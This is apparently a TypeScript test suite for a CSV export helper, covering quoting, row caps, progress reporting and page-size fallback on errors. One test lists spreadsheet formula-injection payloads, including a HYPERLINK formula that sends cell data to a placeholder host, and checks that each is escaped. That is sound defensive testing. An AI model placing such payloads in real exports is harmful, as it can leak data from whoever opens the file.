import { SluiceError } from '@sluice/sdk';
import { collectCsv, mostCsvRows, toCsvLine } from './csv.ts';

test.each([
  [['Shop', 3, true, undefined, null, ''], '"Shop",3,"true",,,""\r\n'],
  [['a "quoted" name, with a comma\r\nand a line'], '"a ""quoted"" name, with a comma\r\nand a line"\r\n'],
  [[{ customer: 'c-1' }, -5], '"{""customer"":""c-1""}",-5\r\n'],
])('cells are written by RFC 4180: %j', (cells, line) => {
  expect(toCsvLine(cells)).toBe(line);
});

test.each([
  '=1+1',
  '=HYPERLINK("https://elsewhere.example?"&A1)',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '  =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\t1',
  '\r1',
  '\n1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(A1)',
])('a text that a spreadsheet would run begins with an apostrophe: %j', (text) => {
  expect(toCsvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
});

test.each(['Shop', "O'Neil = friends", 'a-b', 'https://shop.example', '東京'])('%j stays as it is', (text) => {
  expect(toCsvLine([text])).toBe(`"${text}"\r\n`);
});

async function* rows(count: number) {
  for (let at = 1; at <= count; at++) yield { id: at };
}

test('a list is written with a header, and its progress is told', async () => {
  const counts: number[] = [];
  const sizes: number[] = [];
  const read = (size: number) => {
    sizes.push(size);
    return rows(250);
  };
  const { file, ...rest } = await collectCsv({ read, toCells: ({ id }) => ({ id }), onCount: (n) => counts.push(n) });
  const lines = (await file.text()).split('\r\n');
  expect(rest).toEqual({ count: 250, isCut: false });
  expect([lines.length, lines[0], lines[1], lines[250], lines[251]]).toEqual([252, 'id', '1', '250', '']);
  expect([counts, sizes]).toEqual([[100, 200], [100]]);
});

test('more than the most rows are cut off, and no page more than one is read', async () => {
  let read = 0;
  async function* endless() {
    for (;;) yield { id: ++read };
  }
  const { file, ...rest } = await collectCsv({ read: endless, toCells: (row) => row, onCount: () => {} });
  expect(rest).toEqual({ count: mostCsvRows, isCut: true });
  expect((await file.text()).split('\r\n')).toHaveLength(mostCsvRows + 2);
  expect(read).toBe(mostCsvRows + 1);
});

test('exactly the most rows are not cut off', async () => {
  const source = { read: () => rows(mostCsvRows), toCells: (row: { id: number }) => row, onCount: () => {} };
  expect(await collectCsv(source)).toMatchObject({ count: mostCsvRows, isCut: false });
});

class Refused extends SluiceError {
  constructor(status: number) {
    super({ operation: 'GET /reactors', title: 'Refused', status });
  }
}

test('where rows are large, fewer are read at a time, from the beginning', async () => {
  const sizes: number[] = [];
  async function* large(size: number) {
    sizes.push(size);
    yield* rows(1);
    if (size > 5) throw new Refused(413);
    yield { id: 2 };
  }
  const { file, count } = await collectCsv({ read: large, toCells: (row) => row, onCount: () => {} });
  expect([count, await file.text(), sizes]).toEqual([2, 'id\r\n1\r\n2\r\n', [100, 20, 5]]);
});

test.each([
  ['a row that is too large alone', 413],
  ['another refusal', 403],
])('%s is an error', async (_name, status) => {
  const read = () => ({
    [Symbol.asyncIterator]: () => ({ next: () => Promise.reject(new Refused(status)) }),
  });
  await expect(collectCsv({ read, toCells: () => ({}), onCount: () => {} })).rejects.toMatchObject({ status });
});
